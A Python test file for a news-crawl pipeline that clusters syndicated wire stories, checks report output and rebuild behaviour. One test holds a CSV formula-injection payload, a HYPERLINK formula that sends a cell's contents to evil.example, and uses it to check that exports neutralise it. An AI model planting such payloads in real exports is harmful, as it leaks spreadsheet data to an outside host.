"""Syndication end to end through the commands: a small labelled set of pages (wire stories and their
copies, briefs that end in the same AP tagline, different stories in one outlet's template) with a pinned
quality floor, shuffled input, `--rebuild-stories`, and `scrapy dedup-report`."""
from __future__ import annotations

import csv
import json
import random

from pages import write_warc
from pipelines.stories.evaluate import pairwise
from stories_fixtures import FETCHED, labelled_pages

def test_labelled_set_meets_the_floor_and_shuffled_input_gives_the_same_stories(wirecrawl, tmp_path):
    records, labels = labelled_pages()
    wirecrawl.reprocess(write_warc(tmp_path / "a.warc.gz", records, date=FETCHED))
    rows = {r["fetched_url"]: r for r in wirecrawl.export()}
    assert set(rows) == set(labels)
    scores = pairwise({u: str(s) for u, (s, _) in labels.items()}, {u: r["story_id"] for u, r in rows.items()})
    assert scores["precision"] >= 0.995 and scores["f1"] >= 0.99, scores
    assert {u: r["relation"] for u, r in rows.items()} == {u: rel for u, (_, rel) in labels.items()}

    shuffled = records[:]
    random.Random(7).shuffle(shuffled)
    other = type(wirecrawl)(tmp_path / "shuffled")
    other.reprocess(write_warc(tmp_path / "b.warc.gz", shuffled, date=FETCHED))
    again = {r["fetched_url"]: r for r in other.export()}
    keys = ("story_id", "relation", "similarity")
    assert {u: tuple(r[k] for k in keys) for u, r in again.items()} == {u: tuple(r[k] for k in keys) for u, r in rows.items()}


def test_changed_dedup_settings_need_a_rebuild(wirecrawl, tmp_path):
    records, labels = labelled_pages()
    wirecrawl.reprocess(write_warc(tmp_path / "a.warc.gz", records[:10], date=FETCHED))
    proc = wirecrawl.run("reprocess", str(tmp_path / "a.warc.gz"), "--store", wirecrawl.store, "-s", "DEDUP_SHINGLE_SIZE=4", check=False)
    assert proc.returncode == 2 and "shingle_size 5 -> 4" in proc.stderr and "--rebuild-stories" in proc.stderr
    rebuilt = wirecrawl.run("reprocess", "--rebuild-stories", "--store", wirecrawl.store, "-s", "DEDUP_SHINGLE_SIZE=4")
    assert "this run filed 10 articles" in rebuilt.stdout
    assert len({r["story_id"] for r in wirecrawl.export()}) == 2
    assert json.loads(wirecrawl.query("SELECT value FROM store_meta WHERE key='dedup_params'")[0][0])["shingle_size"] == 4
    signatures = wirecrawl.query("SELECT fetched_url, minhash, shingles FROM signatures ORDER BY 1")
    relinked = wirecrawl.run("reprocess", "--rebuild-stories", "--store", wirecrawl.store, "-s", "DEDUP_SHINGLE_SIZE=4",
                             "-s", "DEDUP_JACCARD=0.5")   # a threshold only: the same signatures, nothing left aside
    assert "this run filed 10 articles" in relinked.stdout
    assert wirecrawl.query("SELECT fetched_url, minhash, shingles FROM signatures ORDER BY 1") == signatures
    assert wirecrawl.query("SELECT COUNT(*) FROM kept_signatures") == [(0,)]


def test_dedup_report_json_and_csv(wirecrawl, tmp_path):
    records, labels = labelled_pages()
    wirecrawl.reprocess(write_warc(tmp_path / "a.warc.gz", records, date=FETCHED))
    wirecrawl.run("dedup-report", "--store", wirecrawl.store, "-o", str(tmp_path / "r.json"))
    report = json.loads((tmp_path / "r.json").read_text())
    # (a copy is a member on another outlet: each story's fifth member is a revision on a copying outlet)
    assert report["totals"] == {"articles": len(labels), "stories": 10, "syndicated_stories": 4, "copies": 12,
                                "revisions": 4, "duplicates": 0}
    assert report["params"]["shingle_size"] == 5
    assert len(report["stories"]) == 4 and all(s["size"] == 5 for s in report["stories"])
    first = min(report["stories"], key=lambda s: s["first_published"])
    assert first["origin"]["url"] == "https://apnews.example/article/0" and first["origin"]["reason"] == "earliest published"
    assert first["origin"]["wire_source"] == "AP"
    assert first["first_published"] == "2025-03-01T08:00:00+00:00" and first["spread_seconds"] == 7 * 3600
    assert first["hosts"] == ["apnews.example", "www.daily.example", "www.courier.example", "www.herald.example"]
    assert [m["relation"] for m in first["members"]] == ["origin", "syndicated", "syndicated", "syndicated", "revision"]
    assert first["members"][0]["url"] == first["origin"]["url"]

    wirecrawl.run("dedup-report", "--store", wirecrawl.store, "-o", str(tmp_path / "r.csv"), "--since", "2025-03-02",
                  "--until", "2025-03-03")
    with open(tmp_path / "r.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["story_id"] for r in rows} == {s["story_id"] for s in report["stories"] if s["first_published"][:10] in ("2025-03-02", "2025-03-03")}
    assert len(rows) == 10 and rows[0]["relation"] == "origin"
    none = wirecrawl.run("dedup-report", "--store", wirecrawl.store, "-o", str(tmp_path / "n.json"), "--min-copies", "5")
    assert json.loads((tmp_path / "n.json").read_text())["stories"] == [] and "0 stories" in none.stderr
    bad = wirecrawl.run("dedup-report", "--store", wirecrawl.store, "-o", str(tmp_path / "r.txt"), check=False)
    assert bad.returncode == 2 and "cannot tell the format" in bad.stderr


def test_csv_cells_that_would_run_as_formulas_are_neutralised(wirecrawl, tmp_path):
    """A scraped title `=HYPERLINK(...)` (or one starting with +, -, @) is written with a leading ' in the
    export's and the report's CSV, so a spreadsheet shows it as text; JSON keeps it as it is."""
    from pages import PARAGRAPHS, article_html
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    records = [(f"https://{host}/story", article_html(title=title, paragraphs=PARAGRAPHS, site=host).encode(),
                {"Content-Type": "text/html"})
               for host, title in (("wire.example", hostile), ("copy.example", "@SUM(1+1) copy"))]
    wirecrawl.reprocess(write_warc(tmp_path / "h.warc.gz", records, date=FETCHED))
    wirecrawl.run("export", "--store", wirecrawl.store, "-o", str(tmp_path / "a.csv"))
    wirecrawl.run("dedup-report", "--store", wirecrawl.store, "-o", str(tmp_path / "r.csv"))
    for name in ("a.csv", "r.csv"):
        with open(tmp_path / name, newline="") as f:
            titles = sorted(r["title"] for r in csv.DictReader(f))
        assert titles == ["'" + hostile, "'@SUM(1+1) copy"], name
    assert sorted(r["title"] for r in wirecrawl.export()) == [hostile, "@SUM(1+1) copy"]
